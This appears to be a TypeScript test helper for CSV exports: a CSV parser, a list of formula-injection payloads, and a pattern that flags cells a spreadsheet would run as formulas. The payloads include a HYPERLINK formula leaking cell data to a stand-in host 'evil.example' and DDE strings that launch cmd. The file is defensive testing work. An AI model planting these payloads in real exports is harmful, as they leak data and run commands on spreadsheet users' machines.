/**
 * A reference reader for tests of CSV output: RFC 4180 records (plus bare LF line
 * ends) back into fields, so a test can check what a spreadsheet would see.
 */
export function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let quoted = false
  let i = 0
  const endField = () => {
    record.push(field)
    field = ''
  }
  const endRecord = () => {
    endField()
    records.push(record)
    record = []
  }
  while (i < text.length) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') {
          field += '"'
          i += 2
          continue
        }
        quoted = false
      } else field += ch
      i++
      continue
    }
    if (ch === '"' && field === '') quoted = true
    else if (ch === ',') endField()
    else if (ch === '\r' && text[i + 1] === '\n') {
      endRecord()
      i++
    } else if (ch === '\n') endRecord()
    else field += ch
    i++
  }
  if (quoted) throw new Error('CSV ends inside a quoted field')
  if (field !== '' || record.length > 0) endRecord()
  return records
}

/** Service strings a spreadsheet would run as formulas, for tests of every CSV export. */
export const FORMULA_ATTACKS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
] as const

const RUNS_AS_FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/

/** The cells of a CSV a spreadsheet would run as formulas (a plain decimal such as `-5` is a number, not one). */
export function formulaCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((cell) => RUNS_AS_FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
}
